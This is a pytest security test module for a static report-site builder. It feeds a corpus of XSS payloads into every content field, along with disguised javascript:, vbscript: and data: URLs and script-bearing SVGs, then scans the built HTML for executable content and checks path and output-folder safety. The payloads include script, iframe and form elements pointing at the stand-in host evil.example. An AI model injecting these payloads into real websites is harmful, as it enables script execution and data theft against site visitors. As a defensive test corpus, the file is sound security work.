"""Hostile input: nothing a writer or an export holds can run as a script on the site, refused
addresses are located problems, and files stay where they belong.

The XSS corpus goes into every field that reaches a page (and into the data's text columns,
which must reach none), one payload per build, and the built site is read back with an HTML
parser: no executable script but our own ``assets/*.js``, no event-handler attribute, no
``javascript:`` (or other refused) address, no iframe, object, embed, base, form elsewhere, style
or comment of anyone's making, and JSON data blocks that parse and cannot be broken out of.
``test_the_scan_finds_what_each_protection_stops`` removes each protection in turn and checks
that the same scan then fails, so these tests cannot pass vacuously.

The scan uses its own small URL reading (:func:`scheme`), not the package's, so that disabling
the package's code cannot blind it.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import nh3
import pytest
import yaml
from click.testing import CliRunner, Result

from qi_report import charts, content, pages, richtext
from qi_report.cli import main
from qi_report.site import STATIC

FIXTURE = Path(__file__).parent / "fixtures" / "small"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</script><script>alert(1)</script>",
    "</title></textarea><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "--><script>alert(1)</script>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<style>body{background:url(https://evil.example/)}</style>",
    '<p style="background:url(https://evil.example/)">x</p>',
    "<a href=https://example.org/ onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/><form action=https://evil.example/><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "' \" > < & ` = ' \"",
    "{{ 7*7 }} {% if true %}x{% endif %}",
    "\u2028\u2029 \\u003cscript\\u003ealert(1)",
)
"""Each is safe to build with: its addresses are http(s) or relative, so it is escaped or
sanitised, not refused."""

TEXT_ONLY = (
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
)
"""Addresses in fields that are plain text (not Markdown, not drawn by plotly): shown as written."""

REFUSED = ("javascript", "vbscript", "data")
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}


# --- the hostile project ------------------------------------------------------------------------

PLAIN_FIELDS = (
    "site.title",
    "site.organisation",
    "site.description",
    "site.copyright",
    "site.language",
    "nav.label",
    "edition.title",
    "edition.summary",
    "edition.author",
    "callout.title",
    "image.alt",
    "image.caption",
    "quote.text",
    "quote.attribution",
    "first.title",
    "first.summary",
    "draft.title",
    "story.title",
    "story.change_idea",
    "story.team",
    "story.directorate",
    "cycle.title",
)
MARKDOWN_FIELDS = (
    "edition.markdown",
    "callout.text",
    "story.body",
    "cycle.plan",
    "cycle.do",
    "cycle.study",
    "cycle.act",
    "measure.definition",
    "stalled.definition",
)
PLOTLY_FIELDS = ("measure.title", "measure.unit", "annotation.text", "stalled.title")
"""Plain text that plotly also draws, reading ``<a href>`` in it."""
DATA_FIELDS = ("coaches.directorate", "projects.title", "projects.directorate", "projects.status")
"""Text in the data exports; none of it may reach the site."""


def token(field: str) -> str:
    """A word found nowhere else, marking where a field's value went."""
    return "zq" + hashlib.sha1(field.encode()).hexdigest()[:8] + "q"


def documents(value: Callable[[str], str]) -> dict[str, Any]:
    """The small fixture's content as data, every text field from ``value(field)``."""
    site = {
        "title": value("site.title"),
        "organisation": value("site.organisation"),
        "description": value("site.description"),
        "copyright": value("site.copyright"),
        "language": value("site.language"),
        "site_url": "https://example.org/qi/",
        "subscribe_url": "https://example.org/subscribe",
        "feedback_url": "https://example.org/feedback",
        "navigation": [
            {"label": "Home", "href": "/"},
            {"label": value("nav.label"), "href": "stories/"},
            {"label": "Measures", "href": "measures/"},
            {"label": "Elsewhere", "href": "https://example.org/elsewhere"},
        ],
    }
    measures = yaml.safe_load((FIXTURE / "content" / "measures.yaml").read_text())
    active, stalled = measures["measures"]
    active.update(
        title=value("measure.title"),
        definition=value("measure.definition"),
        unit=value("measure.unit"),
        annotations=[{"period": "2019-02", "text": value("annotation.text")}],
    )
    stalled.update(title=value("stalled.title"), definition=value("stalled.definition"))
    spring = {
        "title": value("edition.title"),
        "date": "2019-05-02",
        "authors": [value("edition.author"), "Sam Example"],
        "summary": value("edition.summary"),
        "status": "published",
        "body": [
            {"markdown": value("edition.markdown")},
            {"measure": "active-coaches"},
            {"story": "huddle"},
            {"callout": {"title": value("callout.title"), "text": value("callout.text")}},
            {
                "image": {
                    "src": "images/dot.svg",
                    "alt": value("image.alt"),
                    "caption": value("image.caption"),
                }
            },
            {"quote": {"text": value("quote.text"), "attribution": value("quote.attribution")}},
        ],
    }
    first = {
        "title": value("first.title"),
        "date": "2019-03-01",
        "authors": ["The QI team"],
        "summary": value("first.summary"),
        "status": "published",
        "body": [{"markdown": "Hello."}],
    }
    draft = {
        "title": value("draft.title"),
        "date": "2019-06-01",
        "authors": ["The QI team"],
        "summary": "Not ready.",
        "status": "draft",
        "body": [{"measure": "stalled-projects"}],
    }
    cycle = {
        "title": value("cycle.title"),
        "start": "2019-03-04",
        "end": "2019-03-29",
        "plan": value("cycle.plan"),
        "do": value("cycle.do"),
        "study": value("cycle.study"),
        "act": value("cycle.act"),
    }
    story = {
        "title": value("story.title"),
        "change_idea": value("story.change_idea"),
        "team": value("story.team"),
        "directorate": value("story.directorate"),
        "status": "testing",
        "started": "2019-02-01",
        "measures": ["stalled-projects"],
        "pdsa": [cycle],
        "body": value("story.body"),
    }
    return {
        "site.yaml": site,
        "measures.yaml": measures,
        "editions/2019-05-spring.yaml": spring,
        "editions/2019-03-first.yaml": first,
        "editions/2019-06-draft.yaml": draft,
        "stories/huddle.yaml": story,
    }


def write_project(root: Path, docs: dict[str, Any], data_value: Callable[[str], str]) -> None:
    """content/ and data/ under ``root``: the documents as YAML, the fixture's data with its
    text columns from ``data_value``."""
    shutil.copytree(FIXTURE / "content" / "images", root / "content" / "images")
    for name, doc in docs.items():
        path = root / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), "utf-8")
    shutil.copytree(FIXTURE / "data", root / "data")
    replace_column(root / "data" / "coaches.csv", "directorate", data_value("coaches.directorate"))
    for column in ("title", "directorate", "status"):
        replace_column(root / "data" / "projects.csv", column, data_value(f"projects.{column}"))


def replace_column(path: Path, column: str, text: str) -> None:
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({**row, column: text})
    path.write_text(buffer.getvalue(), "utf-8")


def hostile(root: Path, payload: str) -> None:
    def value(field: str) -> str:
        extra = f" {' '.join(TEXT_ONLY)}" if field in PLAIN_FIELDS else ""
        return f"{token(field)} {payload}{extra}"

    write_project(root, documents(value), value)


def benign(root: Path) -> dict[str, Any]:
    """A project with harmless text everywhere; returns its documents for a test to alter."""
    docs = documents(lambda field: f"Text of {field}.")
    write_project(root, docs, lambda field: "Corporate")
    return docs


def build(root: Path, *extra: str) -> Result:
    return CliRunner().invoke(
        main,
        [
            "build",
            "--content",
            str(root / "content"),
            "--data",
            str(root / "data"),
            "--out",
            str(root / "site"),
            "--drafts",
            *extra,
        ],
    )


# --- the scan -----------------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "xlink:href", "action", "formaction", "data", "poster", "background", "cite",
    "longdesc", "lowsrc", "dynsrc", "codebase", "classid", "usemap", "ping", "manifest", "icon",
    "srcset",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "template",
    "noscript", "math", "portal", "textarea", "xmp", "plaintext", "noembed", "noframes",
}  # fmt: skip
OUR_SCRIPT = re.compile(r"^(\.\./)*assets/([\w.-]+\.js)$")


def scheme(url: str) -> str | None:
    """The scheme a browser reads in an attribute value that the parser has already decoded:
    control characters and spaces stripped at both ends, tabs and newlines dropped."""
    compact = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(33)))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return match.group(1).lower() if match else None


class Scan(HTMLParser):
    """Everything on one page that could run, load or send elsewhere, as findings."""

    def __init__(self, name: str, scripts: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.name = name
        self.scripts = scripts
        self.findings: list[str] = []
        self.json_blocks: dict[str, str] = {}
        self.script: tuple[str, str | None] | None = None  # (kind, id) of the open <script>
        self.script_text: list[str] = []
        self.csp: list[str] = []
        self.seen_script = False

    def found(self, what: str) -> None:
        self.findings.append(f"{self.name}: {what}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        for name, value in attributes.items():
            if name.startswith("on"):
                self.found(f"event handler <{tag} {name}={value!r}>")
            if name == "style":
                self.found(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and scheme(value) not in {None, *ALLOWED_SCHEMES}:
                self.found(f"<{tag} {name}={value!r}>: a {scheme(value)}: address")
        if tag in FORBIDDEN_TAGS:
            self.found(f"<{tag}> element")
        if tag == "form" and scheme(attributes.get("action", "")) is not None:
            self.found(f"form sending elsewhere: {attributes.get('action')!r}")
        if tag == "meta":
            equiv = attributes.get("http-equiv", "").lower()
            if equiv == "content-security-policy":
                if self.seen_script:
                    self.found("Content-Security-Policy after a script")
                self.csp.append(attributes.get("content", ""))
            elif equiv:
                self.found(f"<meta http-equiv={equiv!r}>")
        if tag == "script":
            self.seen_script = True
            src = attributes.get("src")
            kind = attributes.get("type", "")
            if src is not None:
                match = OUR_SCRIPT.match(src)
                if match is None or match.group(2) not in self.scripts:
                    self.found(f"script from {src!r}")
                self.script = ("src", None)
            elif kind == "application/json":
                self.script = ("json", attributes.get("id"))
            else:
                self.found(f"inline script of type {kind!r}")
                self.script = ("inline", None)
            self.script_text = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag != "script" or self.script is None:
            return
        kind, block_id = self.script
        text = "".join(self.script_text)
        if kind == "src" and text.strip():
            self.found("script with both a src and inline code")
        if kind == "json":
            if "<" in text or ">" in text:
                self.found(f"JSON block {block_id} holds an unescaped '<' or '>'")
            try:
                json.loads(text)
            except ValueError:
                self.found(f"JSON block {block_id} does not parse: {text[:80]!r}")
            self.json_blocks[str(block_id)] = text
        self.script = None

    def handle_data(self, data: str) -> None:
        if self.script is not None:
            self.script_text.append(data)

    def handle_comment(self, data: str) -> None:
        self.found(f"HTML comment {data[:40]!r}")

    def handle_pi(self, data: str) -> None:
        self.found(f"processing instruction {data[:40]!r}")


def csp_findings(name: str, policies: list[str]) -> list[str]:
    if len(policies) != 1:
        return [f"{name}: {len(policies)} Content-Security-Policy meta elements, expected 1"]
    directives = {
        part.split()[0]: part.split()[1:] for part in policies[0].split(";") if part.strip()
    }
    wanted = {
        "script-src": ["'self'"],
        "default-src": ["'self'"],
        "object-src": ["'none'"],
        "base-uri": ["'none'"],
    }
    return [
        f"{name}: CSP {key} is {directives.get(key)}, expected {value}"
        for key, value in wanted.items()
        if directives.get(key) != value
    ]


def our_scripts() -> dict[str, bytes]:
    """Every script the site may load, by file name: our static ones and plotly's bundle."""
    from qi_report.site import plotly_bundle

    found = {p.name: p.read_bytes() for p in STATIC.glob("*.js")}
    bundle, name = plotly_bundle()
    found[name] = bundle.read_bytes()
    return found


def scan_site(out: Path) -> tuple[list[str], dict[str, dict[str, str]]]:
    """Findings in every file of a built site, and each page's JSON blocks by id."""
    scripts = our_scripts()
    findings: list[str] = []
    blocks: dict[str, dict[str, str]] = {}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        name = path.relative_to(out).as_posix()
        raw = path.read_bytes()
        if path.suffix == ".html":
            scan = Scan(name, set(scripts))
            scan.feed(raw.decode("utf-8"))
            scan.close()
            findings += scan.findings + csp_findings(name, scan.csp)
            blocks[name] = scan.json_blocks
        elif path.suffix == ".js":
            if scripts.get(path.name) != raw or path.parent != out / "assets":
                findings.append(f"{name}: a script that is not one of ours, as shipped")
        elif path.suffix == ".json":
            json.loads(raw)
        elif path.suffix in {".xml", ".svg"}:
            root = ElementTree.fromstring(raw)
            for element in root.iter():
                local = str(element.tag).rsplit("}", 1)[-1].lower()
                if local in {"script", "foreignobject"}:
                    findings.append(f"{name}: <{local}> element")
                if any(a.rsplit("}", 1)[-1].lower().startswith("on") for a in element.attrib):
                    findings.append(f"{name}: event handler on <{local}>")
        elif path.suffix not in {".css", ".csv", ".png", ""} and path.name != ".qi-report-site":
            findings.append(f"{name}: an unexpected kind of file")
    return findings, blocks


def site_text(out: Path) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8", "replace") for p in sorted(out.rglob("*")) if p.is_file()
    )


# --- the corpus ---------------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_in_every_field_reaches_the_pages_harmless(project: Path, payload: str) -> None:
    hostile(project, payload)
    result = build(project)
    assert result.exit_code == 0, result.output
    out = project / "site"
    findings, blocks = scan_site(out)
    assert findings == []
    text = site_text(out)
    for field in (*PLAIN_FIELDS, *MARKDOWN_FIELDS, *PLOTLY_FIELDS):
        assert token(field) in text, f"{field} reached no page: the test would prove nothing"
    for field in DATA_FIELDS:
        assert token(field) not in text, f"the data's {field} reached the site"
    if "{{" in payload:  # content is data to a template, never a template
        assert "{{ 7*7 }}" in text
    # The chart data carries the annotation and the PDSA cycle as text, escaped for the block.
    figure = json.loads(blocks["measures/active-coaches/index.html"]["chart-active-coaches-figure"])
    notes = [a["text"] for a in figure["layout"]["annotations"]]
    assert notes == [f"{token('annotation.text')} {payload}"]
    stalled = blocks["measures/stalled-projects/index.html"]["chart-stalled-projects-figure"]
    (markers,) = [t for t in json.loads(stalled)["data"] if t["name"] == "PDSA cycle starts"]
    (marker,) = markers["text"]
    assert token("cycle.title") in marker and token("story.title") in marker
    assert "<" not in marker and ">" not in marker  # plotly reads tags in labels: escaped


def test_the_sample_site_passes_the_scan(tmp_path: Path) -> None:
    repo = Path(__file__).parent.parent
    result = CliRunner().invoke(
        main,
        [
            "build",
            *("--content", str(repo / "content"), "--data", str(repo / "data")),
            *("--out", str(tmp_path / "site"), "--drafts"),
        ],
    )
    assert result.exit_code == 0, result.output
    findings, blocks = scan_site(tmp_path / "site")
    assert findings == []
    assert any(blocks.values())  # the sample has charts, so the JSON blocks were checked


def unescaped_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    original = pages.environment

    def environment(*args: Any, **kwargs: Any) -> Any:
        env = original(*args, **kwargs)
        env.autoescape = False
        return env

    for module in list(sys.modules.values()):
        if module.__name__.startswith("qi_report") and vars(module).get("environment") is original:
            monkeypatch.setattr(module, "environment", environment)


def no_sanitiser(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nh3, "clean", lambda html, **_: html)


def no_json_escape(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(charts, "_script_safe", lambda text: text)


@pytest.fixture
def fresh_markdown() -> Iterator[None]:
    """Rendered Markdown is cached; a test that swaps the sanitiser must not share the cache."""
    richtext._render.cache_clear()
    yield
    richtext._render.cache_clear()


@pytest.mark.parametrize(
    ("remove", "payload", "expected"),
    [
        (unescaped_environment, '"><img src=x onerror=alert(1)>', "event handler"),
        (unescaped_environment, "<script>alert(1)</script>", "inline script"),
        (no_sanitiser, "<svg onload=alert(1)>", "event handler"),
        (no_sanitiser, "<iframe src=https://evil.example/></iframe>", "<iframe> element"),
        (no_json_escape, "</script><script>alert(1)</script>", "inline script"),
        (no_json_escape, "</script><script>alert(1)</script>", "does not parse"),
    ],
    ids=["autoescape-handler", "autoescape-script", "nh3-svg", "nh3-iframe", "json", "json-parse"],
)
def test_the_scan_finds_what_each_protection_stops(
    project: Path,
    monkeypatch: pytest.MonkeyPatch,
    fresh_markdown: None,
    remove: Callable[[pytest.MonkeyPatch], None],
    payload: str,
    expected: str,
) -> None:
    """The corpus test above fails when any one protection is taken away."""
    remove(monkeypatch)
    hostile(project, payload)
    result = build(project)
    assert result.exit_code == 0, result.output
    findings, _ = scan_site(project / "site")
    assert any(expected in finding for finding in findings), findings


def test_refused_links_are_also_stripped_by_the_sanitiser(
    project: Path, monkeypatch: pytest.MonkeyPatch, fresh_markdown: None
) -> None:
    """Two layers: with the located refusal switched off, nh3 still drops a javascript: link;
    with nh3 switched off too, the scan sees it."""
    docs = benign(project)
    docs["editions/2019-05-spring.yaml"]["body"][0]["markdown"] = "[x](javascript:alert(1))"
    write_yaml(project, "editions/2019-05-spring.yaml", docs)
    assert build(project).exit_code == 1
    monkeypatch.setattr(content, "refused_urls", lambda text, **_: [])
    result = build(project)
    assert result.exit_code == 0, result.output
    assert scan_site(project / "site")[0] == []
    no_sanitiser(monkeypatch)
    richtext._render.cache_clear()
    assert build(project).exit_code == 0
    assert any("javascript: address" in f for f in scan_site(project / "site")[0])


# --- refused addresses: located problems --------------------------------------------------------

DISGUISES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
)


def write_yaml(root: Path, name: str, docs: dict[str, Any]) -> None:
    text = yaml.safe_dump(docs[name], allow_unicode=True, sort_keys=False)
    (root / "content" / name).write_text(text, "utf-8")


def line_of(path: Path, keys: tuple[str | int, ...]) -> int:
    """The 1-based line of ``keys`` in a YAML file, read independently of the package."""
    node = yaml.compose(path.read_text("utf-8"))
    line = node.start_mark.line
    for key in keys:
        if isinstance(key, int):
            node = node.value[key]
            line = node.start_mark.line
        else:
            key_node, node = next((k, v) for k, v in node.value if k.value == key)
            line = key_node.start_mark.line
    return line + 1


def at(doc: Any, keys: tuple[str | int, ...], value: str) -> None:
    for key in keys[:-1]:
        doc = doc[key]
    doc[keys[-1]] = value


FIELDS = [
    ("editions/2019-05-spring.yaml", ("body", 0, "markdown"), "markdown"),
    ("editions/2019-05-spring.yaml", ("body", 3, "callout", "text"), "markdown"),
    ("stories/huddle.yaml", ("body",), "markdown"),
    ("stories/huddle.yaml", ("pdsa", 0, "plan"), "markdown"),
    ("stories/huddle.yaml", ("pdsa", 0, "do"), "markdown"),
    ("stories/huddle.yaml", ("pdsa", 0, "study"), "markdown"),
    ("stories/huddle.yaml", ("pdsa", 0, "act"), "markdown"),
    ("measures.yaml", ("measures", 0, "definition"), "markdown"),
    ("measures.yaml", ("measures", 0, "title"), "html"),
    ("measures.yaml", ("measures", 0, "unit"), "html"),
    ("measures.yaml", ("measures", 0, "annotations", 0, "text"), "html"),
    ("editions/2019-05-spring.yaml", ("body", 4, "image", "src"), "address"),
    ("site.yaml", ("subscribe_url",), "address"),
    ("site.yaml", ("feedback_url",), "address"),
    ("site.yaml", ("site_url",), "address"),
    ("site.yaml", ("navigation", 1, "href"), "address"),
]


@pytest.mark.parametrize(
    ("name", "keys", "kind", "url"),
    [(*f, DISGUISES[i % len(DISGUISES)]) for i, f in enumerate(FIELDS)],
    ids=[".".join(map(str, f[1])) for f in FIELDS],
)
def test_a_refused_address_is_a_located_problem(
    project: Path, name: str, keys: tuple[str | int, ...], kind: str, url: str
) -> None:
    docs = benign(project)
    written = {
        "markdown": f"See [this page]({url}) for more.",
        "html": f'A <a href="{url}">label</a>',
        "address": url,
    }[kind]
    at(docs[name], keys, written)
    write_yaml(project, name, docs)
    result = build(project)
    assert result.exit_code == 1, result.output
    line = line_of(project / "content" / name, keys)
    field = ".".join(map(str, keys))
    (problem,) = [p for p in result.output.splitlines() if f"field '{field}'" in p]
    assert problem.startswith(f"content/{name}: line {line}, field '{field}': ")
    assert re.search(r"\b(javascript|vbscript|data): address", problem), problem
    assert "expected" in problem
    assert "alert(1)" in problem or "msgbox(1)" in problem or "base64" in problem
    assert "nothing was changed" in result.output
    assert not (project / "site").exists()


def test_every_disguise_in_every_markdown_form_is_refused(project: Path) -> None:
    docs = benign(project)
    forms = []
    for number, url in enumerate(DISGUISES):
        forms += [
            f"[a]({url})",
            f"![a]({url})",
            f"[a][ref{number}]\n\n[ref{number}]: {url}\n",
            f'<a href="{url}">a</a>',
            f'<img src="{url}">',
        ]
    docs["editions/2019-05-spring.yaml"]["body"][0]["markdown"] = "\n\n".join(forms)
    write_yaml(project, "editions/2019-05-spring.yaml", docs)
    result = build(project)
    assert result.exit_code == 1
    refused = [p for p in result.output.splitlines() if "field 'body.0.markdown'" in p]
    assert len(refused) == len(forms), "\n".join(refused)
    for problem in refused:
        assert re.search(r"is a (javascript|vbscript|data): address, which is refused", problem)


def test_safe_links_and_addresses_as_text_are_not_refused(project: Path) -> None:
    docs = benign(project)
    docs["editions/2019-05-spring.yaml"]["body"][0]["markdown"] = (
        "[a page](/stories/huddle/), [out](https://example.org/), [mail](mailto:qi@example.org),"
        " [call](tel:+441234567890), [top](#main), `[code](javascript:alert(1))`, and the word"
        " javascript: in a sentence."
    )
    write_yaml(project, "editions/2019-05-spring.yaml", docs)
    result = build(project)
    assert result.exit_code == 0, result.output
    page = (project / "site" / "editions" / "2019-05-spring" / "index.html").read_text()
    assert 'href="../../stories/huddle/"' in page and 'href="tel:+441234567890"' in page


@pytest.mark.parametrize("href", ["//evil.example/", "\\\\evil.example\\", "javascript:alert(1)"])
def test_navigation_leads_inside_the_site_or_to_a_web_address(project: Path, href: str) -> None:
    docs = benign(project)
    docs["site.yaml"]["navigation"][1]["href"] = href
    write_yaml(project, "site.yaml", docs)
    result = build(project)
    assert result.exit_code == 1
    line = line_of(project / "content" / "site.yaml", ("navigation", 1, "href"))
    assert f"content/site.yaml: line {line}, field 'navigation.1.href': " in result.output
    assert "expected a path inside the site" in result.output


def test_a_base_url_that_is_not_a_web_address_is_refused(project: Path) -> None:
    benign(project)
    result = build(project, "--base-url", "javascript:alert(1)//")
    assert result.exit_code == 1
    assert "--base-url: 'javascript:alert(1)//': a javascript: address is refused" in result.output
    assert not (project / "site").exists()


def test_the_content_security_policy_forbids_inline_scripts() -> None:
    base = (Path(__file__).parent.parent / "templates" / "base.html").read_text()
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', base)
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives["script-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"] and directives["base-uri"] == ["'none'"]
    assert "'unsafe-inline'" not in directives.get("default-src", [])
    assert "'unsafe-eval'" not in policy


# --- paths: images inside content/, the output folder ---------------------------------------------


def tree(root: Path) -> dict[str, str]:
    """Every file and link under ``root`` with a digest of its bytes (or its link target)."""
    found = {}
    for path in sorted(root.rglob("*")):
        name = path.relative_to(root).as_posix()
        if path.is_symlink():
            found[name] = "-> " + os.readlink(path)
        elif path.is_file():
            found[name] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[name] = "folder"
    return found


def image_problem(project: Path, docs: dict[str, Any], src: str) -> str:
    """The one problem of a build whose edition shows the image ``src``; nothing changed."""
    name = "editions/2019-05-spring.yaml"
    keys: tuple[str | int, ...] = ("body", 4, "image", "src")
    at(docs[name], keys, src)
    write_yaml(project, name, docs)
    before = tree(project)
    result = build(project)
    assert result.exit_code == 1, result.output
    assert tree(project) == before
    line = line_of(project / "content" / name, keys)
    (problem,) = [p for p in result.output.splitlines() if "field 'body.4.image.src'" in p]
    assert problem.startswith(f"content/{name}: line {line}, field 'body.4.image.src': ")
    return problem


def test_an_image_path_with_dot_dot_is_refused(project: Path) -> None:
    docs = benign(project)
    (project / "outside.svg").write_bytes((FIXTURE / "content/images/dot.svg").read_bytes())
    assert "with '..'" in image_problem(project, docs, "../outside.svg")
    assert "with '..'" in image_problem(project, docs, "images/../images/dot.svg")


def test_an_absolute_image_path_is_refused(project: Path) -> None:
    docs = benign(project)
    absolute = (project / "content" / "images" / "dot.svg").as_posix()
    assert "is an absolute path" in image_problem(project, docs, absolute)


def test_a_symbolic_link_out_of_content_is_refused(project: Path) -> None:
    docs = benign(project)
    outside = project / "elsewhere"
    outside.mkdir()
    (outside / "secret.svg").write_bytes((FIXTURE / "content/images/dot.svg").read_bytes())
    images = project / "content" / "images"
    (images / "link.svg").symlink_to(outside / "secret.svg")
    (images / "folder").symlink_to(outside, target_is_directory=True)
    assert "symbolic link" in image_problem(project, docs, "images/link.svg")
    assert "symbolic link" in image_problem(project, docs, "images/folder/secret.svg")


def test_a_symbolic_link_inside_content_is_followed(project: Path) -> None:
    docs = benign(project)
    (project / "content" / "images" / "alias.svg").symlink_to("dot.svg")
    docs["editions/2019-05-spring.yaml"]["body"][4]["image"]["src"] = "images/alias.svg"
    write_yaml(project, "editions/2019-05-spring.yaml", docs)
    result = build(project)
    assert result.exit_code == 0, result.output
    published = project / "site" / "media" / "images" / "alias.svg"
    assert published.read_bytes() == (FIXTURE / "content/images/dot.svg").read_bytes()


@pytest.mark.parametrize(
    "src",
    ["javascript:alert(1)", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"],
)
def test_an_image_address_is_refused(project: Path, src: str) -> None:
    docs = benign(project)
    assert f"is a {src.split(':')[0]}: address" in image_problem(project, docs, src)


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        '<a x:href="javascript:alert(1)"><circle r="5"/></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
    ],
    ids=["script", "onload", "javascript-link", "foreign-object"],
)
def test_an_svg_that_could_run_a_script_is_refused(project: Path, svg: str) -> None:
    docs = benign(project)
    (project / "content" / "images" / "bad.svg").write_text(svg)
    assert "which could run as a script" in image_problem(project, docs, "images/bad.svg")


def test_a_data_file_outside_the_data_folder_is_refused(project: Path) -> None:
    docs = benign(project)
    docs["site.yaml"]["data"] = {"projects": {"file": "../elsewhere/projects.csv"}}
    write_yaml(project, "site.yaml", docs)
    result = build(project)
    assert result.exit_code == 1
    line = line_of(project / "content" / "site.yaml", ("data", "projects", "file"))
    assert f"content/site.yaml: line {line}, field 'data.projects.file': " in result.output
    assert "expected a file inside the data folder" in result.output


def refused_out(project: Path, out: str, expected: str, code: int = 1) -> None:
    before = tree(project)
    result = CliRunner().invoke(
        main, ["build", "--content", "content", "--data", "data", "--out", out]
    )
    assert result.exit_code == code, result.output
    assert expected in result.output
    if code == 1:
        assert "nothing was changed" in result.output
    assert tree(project) == before


def test_out_may_not_be_the_content_or_data_folder_or_hold_them(project: Path) -> None:
    benign(project)
    for out in ("content", "data", "content/", "./data", "."):
        refused_out(project, out, "cannot build into this folder: it holds")
    refused_out(project, str(project.parent), "cannot build into this folder: it holds")
    (project / "alias").symlink_to(project / "content", target_is_directory=True)
    refused_out(project, "alias", "cannot build into this folder: it holds content/")


def test_out_may_not_be_a_folder_of_other_files(project: Path) -> None:
    benign(project)
    (project / "mine").mkdir()
    (project / "mine" / "thesis.docx").write_bytes(b"years of work")
    (project / "mine" / "notes").mkdir()
    (project / "mine" / "notes" / "a.txt").write_text("a")
    refused_out(project, "mine", "is not a previous qi-report build")
    (project / "a-file").write_text("not a folder")
    refused_out(project, "a-file", "is a file", code=2)  # Click's own check: misuse


def test_out_may_be_an_empty_folder_or_a_previous_build(project: Path) -> None:
    benign(project)
    (project / "site").mkdir()
    assert build(project).exit_code == 0
    assert (project / "site" / ".qi-report-site").is_file()
    assert build(project).exit_code == 0
